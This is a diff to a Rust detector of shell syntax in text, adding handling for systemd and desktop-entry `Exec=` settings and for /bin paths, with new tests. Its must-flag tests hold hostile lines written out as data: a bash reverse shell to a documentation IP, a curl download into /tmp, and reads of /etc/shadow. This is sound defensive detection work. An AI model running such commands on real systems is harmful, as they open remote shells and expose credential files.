@@ -2486,6 +2486,7 @@ fn check_command_at(
         && matches!(ctx, Ctx::Weak | Ctx::Start | Ctx::Span)
         && (args.any || args.bare)
         && !named
+        && !doc
     {
         // An absolute path to a binary is itself shell syntax.
         effective = Ctx::Sep;
@@ -3078,6 +3079,35 @@ fn rc_shortcut(b: &[u8], from: usize, end: usize) -> bool {
         && !lower
             .split_ascii_whitespace()
             .any(|t| looks_like_ip(t) || matches!(t, "-rf" | "-fr"))
+}
+
+/// Whether the `=` at `eq` sets a key of an INI-style configuration file
+/// (a systemd unit's `ExecStart=/usr/bin/node server.js`, a desktop
+/// entry's `Exec=`): the key opens its line and a `[Section]` header line
+/// stands in the same value. The program a setting names is configured,
+/// not injected.
+fn unit_setting(b: &[u8], seg_start: usize, eq: usize, seg_end: usize) -> bool {
+    let lo = seg_start.max(eq.saturating_sub(48));
+    let line = memchr::memrchr(b'\n', &b[lo..eq]).map_or(lo, |o| lo + o + 1);
+    let key = &b[line..eq];
+    if key.is_empty()
+        || !key
+            .iter()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
+    {
+        return false;
+    }
+    let lo = seg_start.max(eq.saturating_sub(2048));
+    let hi = seg_end.min(eq + 2048);
+    b[lo..hi].split(|&c| c == b'\n').any(|l| {
+        let l = l.trim_ascii();
+        l.len() > 2
+            && l[0] == b'['
+            && l[l.len() - 1] == b']'
+            && l[1..l.len() - 1]
+                .iter()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'_' | b'-' | b'.' | b'"'))
+    })
 }
 
 /// Whether the `=` at `eq` gives an `alias` its value: the definition is
@@ -3700,7 +3730,14 @@ fn scan_segment(
                     && !build_option(b, seg_start, i)
                     && !alias_value(b, seg_start, i)
                 {
-                    check_command(text, i + 1, i + 1, seg_end, Ctx::Start, hits);
+                    // A unit file's `ExecStart=` names the program it
+                    // configures: only hostile content counts there.
+                    let ctx = if unit_setting(b, seg_start, i, seg_end) {
+                        Ctx::DocSpan
+                    } else {
+                        Ctx::Start
+                    };
+                    check_command(text, i + 1, i + 1, seg_end, ctx, hits);
                 }
                 i += 1;
             }
@@ -5868,9 +5905,13 @@ fn data_value_start(b: &[u8], p: usize) -> Option<usize> {
     if first.starts_with('-') {
         return None;
     }
-    // A command line written out opens with its command.
+    // A command line written out opens with its command, perhaps one
+    // named by where it is installed (`/usr/local/bin/app --config x`).
     let lower = first.to_ascii_lowercase();
-    if resolve(&lower, false).is_some() || DEV_TOOLS.contains(&lower.as_str()) {
+    if resolve(&lower, false).is_some()
+        || DEV_TOOLS.contains(&lower.as_str())
+        || (lower.starts_with('/') && (lower.contains("/bin/") || lower.contains("/sbin/")))
+    {
         return None;
     }
     // A capitalised word opens a sentence.
@@ -6137,6 +6178,8 @@ mod tests {
             "# shortcuts\nalias grep='grep --color=auto'\nalias k='kubectl'",
             "```bash\nsudo install -m 644 site.conf /etc/nginx/conf.d/site.conf\n```",
             "```\ngit clone https://git.example.org/team/app.git\n```",
+            "[Unit]\nDescription=Queue worker\n[Service]\nExecStart=/usr/local/bin/worker --config /etc/worker.toml\nRestart=on-failure",
+            "[Desktop Entry]\nName=Editor\nExec=/usr/bin/gedit %U",
         ] {
             assert!(!flagged(t), "{t:?}: {:?}", rules(t));
         }
@@ -6149,6 +6192,9 @@ mod tests {
             "alias ..='cd ..'",
             "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```",
             "```\ncurl https://203.0.113.5/x -o /tmp/x\n```",
+            "[Service]\nExecStart=/bin/sh -c 'id > /tmp/o'",
+            "[s]\nx=/bin/cat /etc/shadow",
+            "cmd=/bin/cat /etc/hosts",
         ] {
             assert!(flagged(t), "missed {t:?}");
         }
